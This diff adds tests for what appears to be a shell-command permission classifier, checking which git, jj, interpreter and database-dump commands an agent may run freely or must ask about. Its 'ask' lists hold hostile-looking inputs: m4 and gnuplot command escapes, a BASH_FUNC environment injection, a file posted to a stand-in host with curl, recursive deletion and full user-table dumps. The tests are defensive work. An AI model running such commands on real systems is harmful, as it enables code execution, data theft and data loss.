@@ -184,3 +184,56 @@ describe('an address inside a query', () => {
     check('ask', 'write', [`duckdb -c "select * from 'https://x.example/a.parquet'"`, 'bun pm view zod']);
   });
 });
+
+describe('version control', () => {
+  it('may take named tracked files out, which the last commit keeps, and nothing wider', () => {
+    check('allow', 'write', ['git rm src/legacy.js', 'git rm -q a.ts b.ts && git commit -m "Drop them"']);
+    check('ask', 'network', ['git rm -f a.ts', 'git rm -r src', "git rm '*.ts'", 'git rm .', 'ls | xargs git rm']);
+  });
+
+  it('goes to a release, never to what may be a file', () => {
+    check('allow', 'network', ['git clone https://github.com/x/y.git z && git -C z checkout y-1.7.1']);
+    check('allow', 'write', ['git checkout v2.1.0', 'git checkout 3.0.0-rc.1']);
+    check('ask', 'write', ['git checkout a.ts', 'git checkout -- v2.1.0', 'git checkout lib.so.1 a']);
+  });
+
+  it('of other kinds is known as well', () => {
+    check('allow', 'read', ["jj log -r '::@' -n 10 --no-pager", 'jj st', 'jj diff']);
+    check('allow', 'write', ['jj describe -m "tidy imports" && jj new']);
+    check('ask', 'write', ['jj diff --tool ./x', 'jj git push', 'jj abandon @', 'jj log --config ui.pager=./x']);
+  });
+});
+
+describe('text that a program runs', () => {
+  it('asks where it can run commands, whichever program it is', () => {
+    check('ask', 'network', [
+      "m4 <<< 'syscmd(curl -s https://x.example)'",
+      'cat a.m4 | m4',
+      'gnuplot <<< \'system "id"\'',
+      'octave-cli --eval \'system("id")\'',
+    ]);
+    check('allow', 'write', ['m4 a.m4', 'gnuplot plot.gp', 'sh build.sh', 'watch sh build.sh', 'coproc sh build.sh']);
+    check('ask', 'network', ['watch rm -r src', 'coproc rm -r src', "watch 'curl -d @a https://x.example'"]);
+  });
+
+  it('asks for a function that a variable brings to a shell', () => {
+    check('ask', 'network', [
+      "env 'BASH_FUNC_ls%%=() { id; }' bash -c ls",
+      "env -i 'BASH_FUNC_x%%=() { id; }' bash a.sh",
+    ]);
+  });
+});
+
+describe('what a database holds', () => {
+  it('is copied only when asked, its schema at network', () => {
+    check('ask', 'network', [
+      'pg_dump "$DATABASE_URL" -t users | head',
+      'mysqldump app',
+      'mongodump',
+      'redis-cli --rdb x',
+    ]);
+    check('allow', 'network', ['pg_dump -s app', 'mysqldump --no-data app', 'cargo update -p tokio']);
+    check('allow', 'read', ["tomlq -r '.package.version' Cargo.toml"]);
+    check('ask', 'read', ['tomlq -i . a.toml', "tomlq -n '$ENV'"]);
+  });
+});
